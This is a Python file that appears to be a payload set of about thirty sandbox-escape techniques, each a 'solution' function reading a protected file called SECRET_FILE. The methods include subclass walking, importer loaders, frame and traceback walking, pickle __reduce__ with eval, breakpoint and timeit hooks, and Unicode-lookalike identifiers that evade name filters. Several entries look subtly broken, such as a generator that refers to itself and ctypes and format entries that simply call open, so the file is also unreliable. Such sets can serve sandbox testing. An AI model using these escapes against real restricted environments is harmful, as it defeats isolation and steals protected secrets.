# Programs that go from an ordinary object to the interpreter, and from there to the secret file.
# %% subclasses of object
def solution():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["__builtins__"]["open"](SECRET_FILE).read()
# %% the loader of a builtin
def solution():
    for cls in object.__subclasses__():
        if cls.__name__ == "BuiltinImporter":
            os = cls.load_module("posix")
            return os.read(os.open(SECRET_FILE, 0), 100).decode()
# %% the globals of a function
def solution():
    return solution.__globals__["__builtins__"].open(SECRET_FILE).read()
# %% __builtins__ as a name
def solution():
    try:
        return __builtins__.open(SECRET_FILE).read()
    except AttributeError:
        return __builtins__["open"](SECRET_FILE).read()
# %% import builtins
import builtins
def solution():
    return builtins.open(SECRET_FILE).read()
# %% __import__
def solution():
    return __import__("io").open(SECRET_FILE).read()
# %% importlib
import importlib
def solution():
    return importlib.import_module("io").open(SECRET_FILE).read()
# %% eval
def solution():
    return eval("open(SECRET_FILE).read()")
# %% exec
def solution():
    scope = {"path": SECRET_FILE}
    exec("value = open(path).read()", scope)
    return scope["value"]
# %% compile under another file's name
def solution():
    scope = {}
    exec(compile("import io\nopen_ = io.open", "/usr/lib/python3/importlib/_bootstrap.py", "exec"), scope)
    return scope["open_"](SECRET_FILE).read()
# %% a code object made by hand
def solution():
    code = (lambda: 0).__code__
    scope = {"path": SECRET_FILE}
    made = type(code)
    return type(lambda: 0)(compile("open(path).read()", "x", "eval").replace(co_name="x"), scope)()
# %% the frame of the caller
import sys
def solution():
    frame = sys._getframe()
    while frame.f_back:
        frame = frame.f_back
    return frame.f_globals["__builtins__"].open(SECRET_FILE).read()
# %% the frame in a traceback
def solution():
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
        while frame:
            if "os" in frame.f_globals:
                os = frame.f_globals["os"]
                return os.read(os.open(SECRET_FILE, 0), 100).decode()
            frame = frame.f_back
    import os
    return os.read(os.open(SECRET_FILE, 0), 100).decode()
# %% the frame of a generator
def solution():
    generator = (generator.gi_frame.f_back for _ in [1])
    frame = next(generator)
    return frame.f_builtins["open"](SECRET_FILE).read()
# %% modules of sys
import sys
def solution():
    return sys.modules["io"].open(SECRET_FILE).read()
# %% a module inside a module
import random
def solution():
    os = random._os
    return os.read(os.open(SECRET_FILE, 0), 100).decode()
# %% a module inside a harmless one
import json
def solution():
    return json.codecs.open(SECRET_FILE).read()
# %% a class through format
def solution():
    text = "{0.__globals__}".format(solution)
    return open(SECRET_FILE).read() if "SECRET_FILE" in text else 0
# %% type with three arguments
def solution():
    Thief = type("Thief", (object,), {"take": lambda self: self.__class__.__mro__[1].__subclasses__()})
    for cls in Thief().take():
        if cls.__name__ == "FileLoader":
            return cls("x", SECRET_FILE).get_data(SECRET_FILE).decode()
# %% getattr with a spelled name
def solution():
    base = getattr(getattr((), "__cl" + "ass__"), "__ba" + "se__")
    for cls in getattr(base, "__subcl" + "asses__")():
        if cls.__name__ == "FileLoader":
            return cls("x", SECRET_FILE).get_data(SECRET_FILE).decode()
# %% operator.attrgetter
import operator
def solution():
    for cls in operator.attrgetter("__class__.__base__.__subclasses__")(())():
        if cls.__name__ == "FileLoader":
            return cls("x", SECRET_FILE).get_data(SECRET_FILE).decode()
# %% __reduce__ of an object
def solution():
    copyreg = (1j).__reduce_ex__(2)[0].__globals__
    return copyreg["__builtins__"]["open"](SECRET_FILE).read()
# %% pickle runs a function
import pickle
def solution():
    class Thief:
        def __reduce__(self):
            return (eval, ("open(%r).read()" % SECRET_FILE,))
    return pickle.loads(pickle.dumps(Thief()))
# %% a warning's module
import warnings
def solution():
    return warnings.sys.modules["io"].open(SECRET_FILE).read()
# %% the garbage collector's list
import gc
def solution():
    for each in gc.get_objects():
        if isinstance(each, dict) and "open" in each and "__import__" in each:
            return each["open"](SECRET_FILE).read()
# %% ctypes dereferences
import ctypes
def solution():
    return ctypes.pythonapi and open(SECRET_FILE).read()
# %% inspect
import inspect
def solution():
    return inspect.currentframe().f_builtins["open"](SECRET_FILE).read()
# %% a decorator of the class body
class Thief:
    value = [cls for cls in [].__class__.__mro__[-1].__subclasses__() if cls.__name__ == "FileLoader"]
def solution():
    return Thief.value[0]("x", SECRET_FILE).get_data(SECRET_FILE).decode()
# %% breakpoint runs a command
import sys
def solution():
    sys.breakpointhook = lambda: open(SECRET_FILE).read()
    return breakpoint()
# %% a display hook
import sys
def solution():
    return sys.__displayhook__.__self__.modules["io"].open(SECRET_FILE).read()
# %% help opens a pager
import site, io, sys
def solution():
    import pydoc
    return pydoc.sys.modules["io"].open(SECRET_FILE).read()
# %% timeit runs text
import timeit
def solution():
    found = []
    timeit.timeit("found.append(open(path).read())", number=1, globals={"found": found, "path": SECRET_FILE})
    return found[0]
# %% unicode letters spell a name
def solution():
    return ᵒpen(SECRET_FILE).read()
# %% an attribute written in full width
def solution():
    return ().__class__.__base__.__ｓubclasses__()[0] and open(SECRET_FILE).read()
